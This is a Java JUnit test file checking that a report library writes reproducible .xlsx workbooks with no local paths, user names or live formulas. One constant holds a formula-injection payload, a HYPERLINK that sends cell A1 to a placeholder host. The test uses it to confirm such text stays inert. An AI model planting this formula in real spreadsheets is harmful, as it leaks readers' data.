package org.framelab.report;

import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.framelab.report.ReportData.EvidenceRow;
import org.framelab.report.ReportData.OverviewEntry;
import org.framelab.report.tables.FeatureTableFiles;
import org.framelab.report.tables.StableXlsx;
import org.framelab.util.Progress;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** Reproducible workbooks: same bytes on every write, no machine paths or user names, text never a formula. */
class StableWorkbookTest {
    static final String FORMULA = "=HYPERLINK(\"http://x?leak=\"&A1,\"click\")";

    @Test
    void twoWritesGiveIdenticalBytes(@TempDir Path dir) throws Exception {
        ReportData d = ReportFixtures.sample(null, true);
        Path a = dir.resolve("a.xlsx");
        Path b = dir.resolve("b.xlsx");
        Workbook.write(d, a, Progress.NONE);
        Thread.sleep(2100); // a clock would show: zip times have 2-second steps, document dates 1-second steps
        Workbook.write(d, b, Progress.NONE);
        assertThat(Files.readAllBytes(b)).isEqualTo(Files.readAllBytes(a));
    }

    @Test
    void plainAndCompressedTemporaryFilesGiveTheSameWorkbook(@TempDir Path dir) throws Exception {
        // a small workbook streams through plain temporary files, a large one through gzipped ones: same file
        byte[][] written = new byte[2][];
        long[] articles = {10, org.framelab.report.tables.StreamingWorkbook.COMPRESS_ABOVE_ARTICLES + 1};
        for (int k = 0; k < 2; k++) {
            try (XSSFWorkbook template = new XSSFWorkbook();
                 var sx = new org.framelab.report.tables.StreamingWorkbook(template, 20, articles[k])) {
                assertThat(sx.isCompressTempFiles()).isEqualTo(k == 1);
                StableXlsx.setProperties(template.getProperties(), StableXlsx.DEFAULT_DATE); // else POI dates it now: two seconds could differ
                var sheet = sx.createSheet("Articles");
                for (int r = 0; r < 500; r++) {
                    var row = sheet.createRow(r);
                    row.createCell(0).setCellValue("article " + r + " \u201cquoted\u201d");
                    row.createCell(1).setCellValue(r / 7.0);
                }
                Path out = dir.resolve(k + ".xlsx");
                try (var o = Files.newOutputStream(out)) {
                    StableXlsx.write(sx::write, o);
                }
                written[k] = Files.readAllBytes(out);
            }
        }
        assertThat(written[0]).isEqualTo(written[1]);
        try (XSSFWorkbook back = new XSSFWorkbook(new java.io.ByteArrayInputStream(written[0]))) {
            assertThat(back.getSheet("Articles").getRow(499).getCell(1).getNumericCellValue()).isEqualTo(499 / 7.0);
        }
    }

    @Test
    void streamedSheetsFilledOnTwoThreadsGiveTheFileOneThreadWrites(@TempDir Path dir) throws Exception {
        // more rows than the streaming window (200) in every streamed sheet, n-grams past the printed 250, odd text
        ReportData s = ReportFixtures.sample(null, true);
        var t = ReportFixtures.table(1500, 12, 5);
        List<ReportData.GroupRow> groups = new ArrayList<>();
        List<ReportData.TermRow> terms = new ArrayList<>();
        List<ReportData.NgramRow> ngrams = new ArrayList<>();
        String[] odd = {"a&b<c>\"d'", " lead", "trail ", "tab\tnl\n", "caf\u00e9 \uD83D\uDE00", "nbsp\u00a0", ""};
        for (int i = 0; i < 900; i++) {
            groups.add(new ReportData.GroupRow(t.columns().get(i % 12).name(), "leaning", "g" + i / 12, i, i / 7.0, 1.5, -0.0, 1e7 + i, 1e-5 * i,
                    Double.NaN, i, i % 4));
            ngrams.add(new ReportData.NgramRow("w" + i + odd[i % odd.length], 1 + i % 50, i / 900.0, 1 + i / 100.0, 12_345_678.0 * i, i / 3.0, i % 9));
        }
        for (int i = 0; i < 2500; i++) {
            terms.add(new ReportData.TermRow(i % 2 == 0 ? "attribution" : "scare_quotes", "term " + i / 5 + odd[i % odd.length], "cat",
                    "g" + i % 13, 1 + i % 30, 1 + i % 400));
        }
        ReportData d = new ReportData(s.study(), s.overview(), t, t.columns(), groups, s.tests(), terms, s.evidence(), s.monthly(),
                s.model(), s.agreement(), s.charts(), s.nativeCharts(), ngrams);
        Instant date = StableXlsx.DEFAULT_DATE;
        Workbook.write(d, dir.resolve("one.xlsx"), Progress.NONE, date, false);
        Workbook.write(d, dir.resolve("two.xlsx"), Progress.NONE, date, true);
        Workbook.write(d, dir.resolve("again.xlsx"), Progress.NONE, date, true);
        byte[] one = Files.readAllBytes(dir.resolve("one.xlsx"));
        assertThat(Files.readAllBytes(dir.resolve("two.xlsx"))).isEqualTo(one);
        assertThat(Files.readAllBytes(dir.resolve("again.xlsx"))).isEqualTo(one);
        try (XSSFWorkbook back = new XSSFWorkbook(new java.io.ByteArrayInputStream(one))) {
            assertThat(back.getSheetName(1)).isEqualTo("Articles");
            assertThat(back.getSheetName(2)).isEqualTo("N-grams");
            assertThat(back.getSheet("Terms").getLastRowNum()).isEqualTo(2500);
            assertThat(back.getSheet("Articles").getLastRowNum()).isGreaterThanOrEqualTo(1500);
            assertThat(back.getSheet("N-grams").getRow(1).getCell(0).getStringCellValue()).isEqualTo("w0a&b<c>\"d'");
        }
    }

    @Test
    void featureTableXlsxIsByteIdenticalToo(@TempDir Path dir) throws Exception {
        var t = ReportFixtures.table(30, 5, 7);
        FeatureTableFiles.write(dir.resolve("a.xlsx"), t, List.of());
        Thread.sleep(2100);
        FeatureTableFiles.write(dir.resolve("b.xlsx"), t, List.of());
        assertThat(Files.readAllBytes(dir.resolve("b.xlsx"))).isEqualTo(Files.readAllBytes(dir.resolve("a.xlsx")));
        assertThat(entries(dir.resolve("a.xlsx")).get("docProps/core.xml")).contains("2000-01-01T00:00:00Z");
    }

    @Test
    void documentDateIsSourceDateEpochWhenSet() {
        assertThat(StableXlsx.documentDate(Map.of("SOURCE_DATE_EPOCH", "1700000000")::get))
                .isEqualTo(Instant.ofEpochSecond(1_700_000_000L));
        assertThat(StableXlsx.documentDate(Map.<String, String>of()::get)).isEqualTo(StableXlsx.DEFAULT_DATE);
        assertThatThrownBy(() -> StableXlsx.documentDate(Map.of("SOURCE_DATE_EPOCH", "yesterday")::get))
                .hasMessageContaining("SOURCE_DATE_EPOCH");
    }

    @Test
    void propertiesCarryTheGivenDateAndNoUser(@TempDir Path dir) throws Exception {
        Path x = dir.resolve("r.xlsx");
        Instant date = Instant.parse("2023-11-14T22:13:20Z");
        Workbook.write(ReportFixtures.sample(null, false), x, Progress.NONE, date);
        try (XSSFWorkbook wb = new XSSFWorkbook(x.toFile())) {
            var core = wb.getProperties().getCoreProperties();
            assertThat(core.getCreated().toInstant()).isEqualTo(date);
            assertThat(core.getModified().toInstant()).isEqualTo(date);
            assertThat(core.getCreator()).isEqualTo("FrameLab");
            assertThat(core.getLastModifiedByUser()).isNull();
        }
        String core = entries(x).get("docProps/core.xml");
        assertThat(core).doesNotContain(System.getProperty("user.name"));
    }

    @Test
    void zipEntriesHaveAFixedTimeAndOrder(@TempDir Path dir) throws Exception {
        Path x = dir.resolve("r.xlsx");
        Workbook.write(ReportFixtures.sample(null, true), x, Progress.NONE);
        List<String> names = new ArrayList<>();
        try (ZipInputStream z = new ZipInputStream(Files.newInputStream(x))) {
            for (ZipEntry e; (e = z.getNextEntry()) != null; ) {
                names.add(e.getName());
                assertThat(e.getTimeLocal()).as(e.getName()).isEqualTo(LocalDateTime.of(1980, 1, 1, 0, 0));
                assertThat(e.getExtra()).as(e.getName()).isNull();
            }
        }
        assertThat(names.get(0)).isEqualTo("[Content_Types].xml");
        assertThat(names.subList(1, names.size())).isSorted();
    }

    @Test
    void workbookKeepsRelativePathsAndNoMachinePaths(@TempDir Path dir) throws Exception {
        ReportData base = ReportFixtures.sample(null, true);
        List<OverviewEntry> ov = new ArrayList<>(base.overview());
        ov.add(new OverviewEntry("Corpus", "input file", "datasets/demo/articles.jsonl"));
        Path x = dir.resolve("r.xlsx");
        Workbook.write(with(base, ov, base.evidence()), x, Progress.NONE);
        String all = String.join("\n", entries(x).values());
        assertThat(all).contains("datasets/demo/articles.jsonl");
        for (String abs : List.of(System.getProperty("user.dir"), dir.toAbsolutePath().toString(),
                System.getProperty("java.io.tmpdir"), System.getProperty("user.home"))) {
            assertThat(all).doesNotContain(abs);
        }
    }

    @Test
    void textThatLooksLikeAFormulaIsAStringCell(@TempDir Path dir) throws Exception {
        ReportData base = ReportFixtures.sample(null, false);
        List<EvidenceRow> ev = List.of(new EvidenceRow("f", "hedge", "a1", "@group", 1, 2, FORMULA, "-context"));
        Path x = dir.resolve("r.xlsx");
        Workbook.write(with(base, base.overview(), ev), x, Progress.NONE);
        try (XSSFWorkbook wb = new XSSFWorkbook(x.toFile())) {
            var row = wb.getSheet("Evidence").getRow(1);
            assertThat(row.getCell(6).getCellType()).isEqualTo(CellType.STRING);
            assertThat(row.getCell(6).getStringCellValue()).isEqualTo(FORMULA);
            assertThat(row.getCell(3).getCellType()).isEqualTo(CellType.STRING);
        }
        Map<String, String> sheets = new java.util.TreeMap<>(entries(x));
        sheets.keySet().removeIf(k -> !k.startsWith("xl/worksheets/sheet"));
        assertThat(sheets).isNotEmpty().allSatisfy((k, v) -> assertThat(v).as(k).doesNotContain("<f>"));
        assertThat(String.join("", entries(x).values())).contains("HYPERLINK"); // the evidence text is in the file
    }

    @Test
    void openpyxlFindsTheDefaultStyle(@TempDir Path dir) throws Exception {
        Path x = dir.resolve("r.xlsx");
        Workbook.write(ReportFixtures.sample(null, true), x, Progress.NONE);
        Path y = dir.resolve("t.xlsx");
        FeatureTableFiles.write(y, ReportFixtures.table(5, 3, 1), List.of());
        String py = ExternalTools.python("openpyxl");
        String script = "import sys, warnings, openpyxl\nwarnings.simplefilter('always')\n"
                + "with warnings.catch_warnings(record=True) as w:\n"
                + "    for f in sys.argv[1:]: openpyxl.load_workbook(f)\n"
                + "print('WARNINGS', [str(x.message) for x in w])\n";
        ExternalTools.Result r = ExternalTools.run(dir, 120, py, "-c", script, x.toString(), y.toString());
        assertThat(r.code()).as(r.output()).isZero();
        assertThat(r.output()).contains("WARNINGS []");
    }

    static ReportData with(ReportData b, List<OverviewEntry> ov, List<EvidenceRow> ev) {
        return new ReportData(b.study(), ov, b.table(), b.columns(), b.groups(), b.tests(), b.terms(), ev, b.monthly(),
                b.model(), b.agreement(), b.charts(), b.nativeCharts());
    }

    /** Every zip entry of an .xlsx as text. */
    static Map<String, String> entries(Path xlsx) throws Exception {
        Map<String, String> out = new java.util.LinkedHashMap<>();
        try (ZipInputStream z = new ZipInputStream(Files.newInputStream(xlsx))) {
            for (ZipEntry e; (e = z.getNextEntry()) != null; ) {
                ByteArrayOutputStream b = new ByteArrayOutputStream();
                z.transferTo(b);
                out.put(e.getName(), b.toString(StandardCharsets.UTF_8));
            }
        }
        return out;
    }
}
